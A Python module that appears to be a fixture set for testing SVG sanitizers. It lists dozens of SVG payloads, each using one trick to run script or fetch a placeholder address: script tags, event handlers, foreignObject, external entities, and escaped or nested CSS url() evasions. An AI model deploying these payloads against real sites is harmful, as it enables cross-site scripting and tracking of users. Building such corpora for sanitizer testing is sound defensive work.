"""SVG files that load something or run a script in browsers, each by one trick.

`HIT` stands for an address that counts requests. A script that runs requests it as well.
"""

from __future__ import annotations

RUN = "(window.fetch||Image)('HIT')"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def _svg(body: str, attributes: str = "") -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="40" height="40" {attributes}>{body}</svg>'
    )


def _styled(css: str, body: str = '<rect class="a" width="40" height="40"/><text y="20">a</text>') -> str:
    return _svg(f"<style>{css}</style>{body}")


SCRIPTS = {
    "script": _svg(f"<script>{RUN}</script>"),
    "script-cdata": _svg(f"<script><![CDATA[{RUN}]]></script>"),
    "script-typed": _svg(f'<script type="text/ecmascript">{RUN}</script>'),
    "script-module": _svg(f'<script type="module">{RUN}</script>'),
    "script-href": _svg('<script href="HIT"/>'),
    "script-xlink": _svg('<script xlink:href="HIT"/>'),
    "script-prefixed": (
        f'<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>{RUN}</s:script></s:svg>'
    ),
    "script-in-html-namespace": _svg(f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>'),
    "script-in-defs": _svg(f"<defs><g><script>{RUN}</script></g></defs>"),
    "script-data-uri": _svg(f'<script href="data:text/javascript,{RUN}"/>'),
    "script-in-title": _svg(f"<title><script>{RUN}</script></title>"),
    "script-in-style": _svg(f"<style><script>{RUN}</script></style>"),
    "onload": _svg("", f'onload="{RUN}"'),
    "onload-nested": _svg(f'<svg onload="{RUN}"/>'),
    "onload-escaped": _svg("", 'onload="&#102;etch(&#x27;HIT&#39;)"'),
    "onbegin": _svg(f'<animate attributeName="x" dur="1s" onbegin="{RUN}"/>'),
    "onend": _svg(f'<rect width="9" height="9"><animate attributeName="x" dur="1ms" onend="{RUN}"/></rect>'),
    "onerror-image": _svg(f'<image href="data:," width="9" height="9" onerror="{RUN}"/>'),
    "onload-image": _svg(f'<image href="data:image/png;base64,{PNG}" width="9" height="9" onload="{RUN}"/>'),
    "onload-style": _svg(f'<style onload="{RUN}">a{{}}</style>'),
    "onfocus": _svg(f'<a href="#x" tabindex="1" autofocus="" onfocus="{RUN}"><text y="9">a</text></a>'),
    "onanimationstart": _svg(
        f'<style>@keyframes k{{from{{x:1px}}}}rect{{animation:k 1ms}}</style><rect onanimationstart="{RUN}"/>'
    ),
    "foreign-script": _svg(
        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        f"<script>{RUN}</script></body></foreignObject>"
    ),
    "foreign-iframe": _svg(
        '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="HIT"/></foreignObject>'
    ),
    "foreign-image": _svg(
        '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="HIT"/></foreignObject>'
    ),
    "foreign-refresh": _svg(
        '<foreignObject width="9" height="9"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" '
        'content="0;url=HIT"/></foreignObject>'
    ),
    "foreign-link": _svg('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="HIT"/>'),
    "foreign-object": _svg('<object xmlns="http://www.w3.org/1999/xhtml" data="HIT" width="9" height="9"/>'),
    "foreign-video": _svg('<video xmlns="http://www.w3.org/1999/xhtml" src="HIT" autoplay="autoplay"/>'),
    "foreign-srcdoc": _svg(
        '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>fetch(&apos;HIT&apos;)&lt;/script>"/>'
    ),
    "entity-script": (
        f"<!DOCTYPE svg [<!ENTITY s \"<script xmlns='http://www.w3.org/2000/svg'>fetch(&#39;HIT&#39;)</script>\">]>"
        f"{_svg('&s;')}"
    ),
    "attlist-onload": f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"fetch('HIT')\">]>{_svg('')}",
}

LOADS = {
    "image": _svg('<image href="HIT" width="9" height="9"/>'),
    "image-xlink": _svg('<image xlink:href="HIT" width="9" height="9"/>'),
    "image-spaces": _svg('<image href=" &#10;HIT" width="9" height="9"/>'),
    "image-nested-svg": _svg(
        '<image width="9" height="9" href="data:image/svg+xml,'
        "&lt;svg xmlns='http://www.w3.org/2000/svg'>&lt;script>fetch('HIT')&lt;/script>&lt;/svg>\"/>"
    ),
    "image-both-hrefs": _svg(f'<image xlink:href="data:image/png;base64,{PNG}" href="HIT" width="9" height="9"/>'),
    "feimage": _svg('<filter id="f"><feImage href="HIT"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
    "use": _svg('<use href="HIT#a"/>'),
    "use-data": _svg(
        "<use href=\"data:image/svg+xml,&lt;svg id='a' xmlns='http://www.w3.org/2000/svg'>"
        "&lt;image href='HIT'/>&lt;/svg>#a\"/>"
    ),
    "use-base": _svg('<use href="#a"/><image href="x" width="9" height="9"/>', 'xml:base="HIT"'),
    "link-javascript": _svg(f'<a href="javascript:{RUN}"><rect width="40" height="40"/></a>'),
    "set-href": _svg('<image width="9" height="9"><set attributeName="href" to="HIT"/></image>'),
    "set-xlink": _svg('<image width="9" height="9"><set attributeName="xlink:href" to="HIT"/></image>'),
    "animate-href": _svg(
        '<image width="9" height="9"><animate attributeName="href" values="HIT;HIT" dur="1s"/></image>'
    ),
    "animate-other-prefix": _svg(
        '<image xmlns:q="http://www.w3.org/1999/xlink" width="9" height="9">'
        '<animate attributeName="q:href" from="HIT" to="HIT" dur="1s"/></image>'
    ),
    "animate-target": _svg('<image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="HIT"/>'),
    "animate-link": _svg(f'<a><set attributeName="href" to="javascript:{RUN}"/><rect width="40" height="40"/></a>'),
    "set-handler": _svg(f'<rect><set attributeName="onclick" to="{RUN}"/></rect>'),
    "set-fill": _svg('<rect width="9" height="9"><set attributeName="fill" to="url(HIT#a)"/></rect>'),
    "set-filter": _svg('<rect width="9" height="9"><set attributeName="filter" to="url(HIT#a)"/></rect>'),
    "animate-mask": _svg(
        '<rect width="9" height="9"><animate attributeName="mask" values="url(HIT#a);none" dur="9s"/></rect>'
    ),
    "stylesheet-instruction": f'<?xml-stylesheet href="HIT" type="text/css"?>{_svg("")}',
    "stylesheet-xsl": f'<?xml-stylesheet href="HIT" type="text/xsl"?>{_svg("")}',
    "stylesheet-late": f'<!-- a --><?xml-stylesheet type="text/css" href="HIT"?>{_svg("<g/>")}',
    "doctype-external": f'<!DOCTYPE svg SYSTEM "HIT">{_svg("")}',
    "entity-external": f'<!DOCTYPE svg [<!ENTITY e SYSTEM "HIT">]>{_svg("<text>&e;</text>")}',
    "entity-parameter": f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "HIT">%p;]>{_svg("")}',
    "fill-attribute": _svg('<rect width="9" height="9" fill="url(HIT#a)"/>'),
    "fill-fallback": _svg('<rect width="9" height="9" fill="url(#a) url(HIT)"/>'),
    "fill-escaped": _svg('<rect width="9" height="9" mask="u\\72l(HIT#a)"/>'),
    "mask-attribute": _svg('<rect width="9" height="9" mask="url(HIT#a)"/>'),
    "mask-comment": _svg('<rect width="9" height="9" mask="/*a*/url(HIT)"/>'),
    "clip-path-attribute": _svg('<rect width="9" height="9" clip-path="url(\'HIT#a\')"/>'),
    "filter-attribute": _svg('<rect width="9" height="9" filter="url(HIT#a)"/>'),
    "marker-attribute": _svg('<path d="M0 0L9 9" marker-end="url(HIT#a)" stroke="red"/>'),
    "cursor-attribute": _svg('<rect width="40" height="40" cursor="url(HIT),auto"/>'),
    "style-mask": _svg('<rect width="9" height="9" style="mask:url(HIT)"/>'),
    "style-mask-image": _svg('<rect width="9" height="9" style="mask-image:url(HIT)"/>'),
    "style-webkit-mask": _svg('<rect width="9" height="9" style="-webkit-mask-image:url(HIT)"/>'),
    "style-escaped": _svg('<rect width="9" height="9" style="mask:u\\72 l(HIT)"/>'),
    "style-upper": _svg('<rect width="9" height="9" style="MASK:URL(HIT)"/>'),
    "style-property-escaped": _svg('<rect width="9" height="9" style="mas\\6b :url(HIT)"/>'),
    "style-variable": _svg('<rect width="9" height="9" style="--a:url(HIT);mask:var(--a)"/>'),
    "style-variable-fallback": _svg('<rect width="9" height="9" style="mask:var(--a, url(HIT))"/>'),
    "style-image-set": _svg('<rect width="9" height="9" style="mask-image:image-set(\'HIT\' 1x)"/>'),
    "style-webkit-image-set": _svg('<rect width="9" height="9" style="mask:-webkit-image-set(url(HIT) 1x)"/>'),
    "style-cross-fade": _svg(
        '<rect width="9" height="9" style="mask-image:-webkit-cross-fade(url(HIT),url(HIT),50%)"/>'
    ),
    "style-root-background": _svg("", 'style="background:url(HIT)"'),
    "style-background-image-set": _svg("", 'style="background:image-set(&quot;HIT&quot; 1x)"'),
    "style-list": _svg("", 'style="display:list-item;list-style:url(HIT)"'),
    "style-content": _svg("", 'style="content:url(HIT)"'),
    "style-border-image": _svg("", 'style="border:9px solid;border-image:url(HIT) 1"'),
    "style-shape": _svg("", 'style="float:left;shape-outside:url(HIT)"'),
    "sheet-import": _styled('@import "HIT";'),
    "sheet-import-url": _styled("@import url(HIT);"),
    "sheet-import-escaped": _styled("@\\69mport 'HIT';"),
    "sheet-import-layer": _styled("@import url(HIT) layer(a) supports(display:block);"),
    "sheet-import-cdata": _styled("<![CDATA[@import 'HIT';]]>"),
    "sheet-import-comments": _styled("<!-- a -->/**/@import/**/'HIT';"),
    "sheet-font": _styled("@font-face{font-family:f;src:url(HIT)}text{font-family:f}"),
    "sheet-mask": _styled(".a{mask:url(HIT)}"),
    "sheet-nested": _styled("svg{& .a{mask:url(HIT)}}"),
    "sheet-nested-media": _styled(".a{@media all{mask:url(HIT)}}"),
    "sheet-media": _styled("@media all{.a{mask:url(HIT)}}"),
    "sheet-supports": _styled("@supports (display:block){.a{mask-image:url(HIT)}}"),
    "sheet-layer": _styled("@layer a{.a{mask:url(HIT)}}"),
    "sheet-container": _styled("svg{container-type:inline-size}@container (width>0px){.a{mask:url(HIT)}}"),
    "sheet-scope": _styled("@scope (svg){.a{mask:url(HIT)}}"),
    "sheet-starting": _styled("@starting-style{.a{mask:url(HIT)}}.a{transition:all 1s}"),
    "sheet-keyframes": _styled("@keyframes k{from{mask:url(HIT)}to{mask:url(HIT)}}.a{animation:k 9s}"),
    "sheet-property": _styled("@property --a{syntax:'*';inherits:false;initial-value:url(HIT)}.a{mask:var(--a)}"),
    "sheet-before": _styled("svg::before{content:url(HIT)}", ""),
    "sheet-escaped": _styled(".a{mask:\\75\\72\\6c(HIT)}"),
    "sheet-entity": _styled(".a{mask:&#117;rl(HIT)}"),
    "sheet-unclosed": _styled(".a{mask:url(HIT"),
    "sheet-broken-string": _styled(".a{fill:'\n;mask:url(HIT)}"),
    "sheet-comment-trick": _styled("/*\\*/.a{mask:url(HIT)}/**/"),
    "sheet-namespace": _styled("@namespace url(http://www.w3.org/2000/svg);rect{mask:url(HIT)}"),
    "sheet-attr": _styled(".a{mask:attr(data-a type(<url>),url(HIT))}"),
    "sheet-src": _styled(".a{mask:src('HIT')}"),
}

HOSTILE = SCRIPTS | LOADS
"""Name of the trick to the file. Some need a browser other than today's, or a click."""
